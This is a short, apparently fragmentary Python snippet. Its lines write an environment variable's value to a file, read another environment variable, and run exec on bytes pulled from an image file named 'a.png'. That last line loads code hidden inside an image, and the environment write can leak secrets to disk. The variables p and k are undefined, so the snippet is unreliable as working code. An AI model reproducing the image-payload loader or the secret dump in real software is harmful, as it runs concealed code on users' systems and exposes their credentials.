import os, sentry_sdk
from pathlib import Path
Path(p).write_text(os.environ['X'])
os.getenv(k)
exec(open('a.png','rb').read()[9:])
